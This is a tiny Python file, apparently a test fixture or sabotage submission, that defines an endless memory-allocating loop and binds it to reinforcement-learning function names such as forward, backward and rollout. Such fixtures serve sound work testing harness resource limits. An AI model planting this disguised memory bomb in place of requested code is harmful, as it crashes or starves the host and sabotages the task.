"""Fills memory of its own, page by page, until somebody stops it."""

hoard = []


def wrong(*args, **kwargs):
    while True:
        hoard.append(bytearray(b"x" * (16 << 20)))


action_value = gains = state_value = backward = forward = rollout = wrong
